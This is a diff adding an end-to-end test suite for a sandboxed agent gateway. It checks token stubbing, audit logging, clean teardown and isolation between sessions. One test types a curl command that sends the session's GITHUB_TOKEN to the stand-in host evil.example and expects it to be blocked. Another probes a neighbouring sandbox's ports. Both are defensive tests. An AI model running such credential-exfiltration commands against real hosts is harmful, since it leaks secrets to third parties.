@@ -1,0 +1,133 @@
+// Sessions end to end on the local runtime (issue 4, Proof 2): a shell session attached through the
+// gateway's WebSocket, a per-session GITHUB_TOKEN that the sandbox only sees as a stub, the audit
+// trail, delete leaving nothing behind, and 20 concurrent sessions isolated from one another.
+import { execFileSync } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { SandboxHandle } from '../../gateway/runtime/types.ts';
+import { startFakeUpstream, type FakeUpstream } from '../support/fake-upstream.ts';
+import { startTestGateway, type TestGateway } from '../support/gateway.ts';
+import { isRoot, warnIfSkipped } from '../support/root.ts';
+import { TtyViewer } from '../sandbox-agent/tty-client.ts';
+
+warnIfSkipped('gateway sessions (local runtime)');
+const REAL_TOKEN = 'ghp_RealTokenValue0123456789abcdefABCDEF';
+
+describe.runIf(isRoot)('sessions on the local runtime', () => {
+  let upstream: FakeUpstream;
+  let gw: TestGateway;
+
+  beforeAll(async () => {
+    upstream = await startFakeUpstream();
+    const target = `127.0.0.1:${upstream.httpsPort}`;
+    gw = await startTestGateway({ vaultHosts: { 'api.github.com': target, 'evil.example': target }, extraCaPem: upstream.caPem, warmPool: 'shell=1' });
+    // The fakes listen on loopback: like any private upstream, they must be named in allow_private.
+    const egress_policy = { default: 'allow', allow: [], deny: [], allow_private: ['api.github.com', 'evil.example'] };
+    await gw.json('POST', '/api/v1/managed_agents/agents', { name: 'sh', harness: 'shell', egress_policy }, 201);
+  });
+  afterAll(async () => {
+    await gw?.close();
+    await upstream?.close();
+  });
+
+  const ttyUrl = (id: string) => `${gw.url.replace('http', 'ws')}/api/v1/managed_agents/sessions/${id}/tty`;
+  const attach = (id: string) => TtyViewer.connect(ttyUrl(id), { headers: { authorization: `Bearer ${gw.key}` } });
+  const handleOf = (sessionId: string): SandboxHandle => {
+    const session = gw.gateway.store.sessions.get(sessionId)!;
+    return gw.gateway.store.sandboxes.get(session.sandboxId!)!.handle as SandboxHandle;
+  };
+
+  it('swaps a per-session GITHUB_TOKEN on the wire: stub inside, real value upstream, audited, blocked elsewhere', async () => {
+    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', { title: 'open a PR', env_vars: { GITHUB_TOKEN: REAL_TOKEN } }, 201);
+    expect(session.status, session.failure_reason).toBe('ready');
+    const viewer = await attach(session.id);
+    viewer.type('echo "tok=$GITHUB_TOKEN"; curl -sS https://api.github.com/user -H "Authorization: Bearer $GITHUB_TOKEN" -o /dev/null -w "code=%{http_code}\\n"\r');
+    await viewer.waitForText('code=200');
+    viewer.type('curl -sS https://evil.example/user -H "Authorization: Bearer $GITHUB_TOKEN" -o /dev/null -w "evil=%{http_code}\\n"\r');
+    await viewer.waitForText('evil=403');
+    await viewer.close();
+
+    const stub = /tok=(ghp_\w+)/.exec(viewer.text)?.[1];
+    expect(stub).toBeDefined();
+    expect(stub).not.toBe(REAL_TOKEN);
+    expect(viewer.text).not.toContain(REAL_TOKEN);
+    const seen = upstream.received.filter((r) => r.path === '/user').map((r) => String(r.headers.authorization));
+    expect(seen).toEqual([`Bearer ${REAL_TOKEN}`]);
+
+    const audit = await waitForAudit(session.id, 2);
+    expect(audit.find((e: any) => e.type === 'vault.request')?.data).toMatchObject({ host: 'api.github.com', credentials: ['GITHUB_TOKEN'], decision: 'allow' });
+    expect(audit.find((e: any) => e.type === 'vault.blocked')?.data).toMatchObject({ host: 'evil.example', decision: 'block' });
+    expect(JSON.stringify(await gw.json('GET', `/api/v1/managed_agents/sessions/${session.id}/events`))).not.toContain(REAL_TOKEN);
+
+    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
+    const kept = await gw.json('GET', `/api/v1/managed_agents/sessions/${session.id}/audit`);
+    expect(kept.data.length).toBeGreaterThanOrEqual(2);
+  });
+
+  it('delete leaves no netns, interface, process, mount or sandbox directory behind', async () => {
+    await waitFor(() => gw.gateway.pool.stats()[0]!.warm === 1 && gw.gateway.pool.stats()[0]!.starting === 0, 'the pool to settle');
+    const before = hostSnapshot(gw.dataDir);
+    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
+    expect(session.status).toBe('ready');
+    expect(session.warm).toBe(true);
+    const detail = handleOf(session.id).detail as { netns: string; hostInterface: string; dir: string };
+    expect(hostSnapshot(gw.dataDir).netns).toContain(detail.netns);
+    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
+    await waitFor(() => gw.gateway.pool.stats()[0]!.warm === 1 && gw.gateway.pool.stats()[0]!.starting === 0, 'the pool to refill');
+    // The pool replaced the sandbox it gave away: one new sandbox stands where the old one stood,
+    // and nothing of the deleted one is left.
+    const after = hostSnapshot(gw.dataDir);
+    expect(after.processes.length).toBe(before.processes.length);
+    expect(after.mounts.length).toBe(before.mounts.length);
+    expect(after.netns).not.toContain(detail.netns);
+    expect(after.links.some((l) => l.includes(`${detail.hostInterface}@`))).toBe(false);
+    expect(after.processes.some((p) => p.includes(detail.dir))).toBe(false);
+    expect(after.mounts.some((m) => m.includes(detail.netns) || m.includes(detail.dir))).toBe(false);
+    expect(existsSync(detail.dir)).toBe(false);
+  });
+
+  it('starts 20 sessions at once; all become ready and none can reach another one', async () => {
+    const created = await Promise.all(Array.from({ length: 20 }, (_, i) => gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', { title: `s${i}` }, 201)));
+    try {
+      expect(created.map((s) => s.status)).toEqual(created.map(() => 'ready'));
+      const [a, b] = [handleOf(created[0].id), handleOf(created[1].id)];
+      const target = b.detail as { sandboxAddress: string; hostAddress: string };
+      const probe = `for t in ${target.sandboxAddress}:7070 ${target.hostAddress}:15443 ${target.hostAddress}:15080; do curl -s -m 2 -o /dev/null http://$t && echo reached $t || echo blocked $t; done`;
+      const result = await execInSandbox(a, ['sh', '-c', probe]);
+      expect(result.split('\n').filter(Boolean)).toEqual([`blocked ${target.sandboxAddress}:7070`, `blocked ${target.hostAddress}:15443`, `blocked ${target.hostAddress}:15080`]);
+    } finally {
+      await Promise.all(created.map((s) => gw.call('DELETE', `/api/v1/managed_agents/sessions/${s.id}`)));
+    }
+  });
+
+  async function waitForAudit(id: string, count: number): Promise<any[]> {
+    let events: any[] = [];
+    await waitFor(async () => (events = (await gw.json('GET', `/api/v1/managed_agents/sessions/${id}/audit`)).data).length >= count, `${count} audit events`);
+    return events;
+  }
+});
+
+async function execInSandbox(handle: SandboxHandle, argv: string[]): Promise<string> {
+  const response = await fetch(`${handle.agentUrl}/v1/exec`, { method: 'POST', headers: { authorization: `Bearer ${handle.agentToken}`, 'content-type': 'application/json' }, body: JSON.stringify({ argv, timeoutMs: 20_000 }) });
+  const frames = (await response.text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
+  return frames.filter((f) => f.type === 'stdout').map((f) => Buffer.from(f.data, 'base64').toString()).join('');
+}
+
+/** What this gateway's sandboxes have on the host (other suites run sandboxes at the same time). */
+function hostSnapshot(dataDir: string) {
+  const run = (cmd: string, args: string[]) => execFileSync(cmd, args, { encoding: 'utf8' }).split('\n').filter(Boolean);
+  return {
+    netns: run('ip', ['netns', 'list']).map((l) => l.split(' ')[0]!),
+    links: run('ip', ['-o', 'link']),
+    processes: run('ps', ['-eo', 'args']).filter((p) => p.includes(dataDir)),
+    mounts: readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.includes(dataDir)),
+  };
+}
+
+async function waitFor(predicate: () => boolean | Promise<boolean>, what: string, limitMs = 60_000): Promise<void> {
+  const deadline = Date.now() + limitMs;
+  while (!(await predicate())) {
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
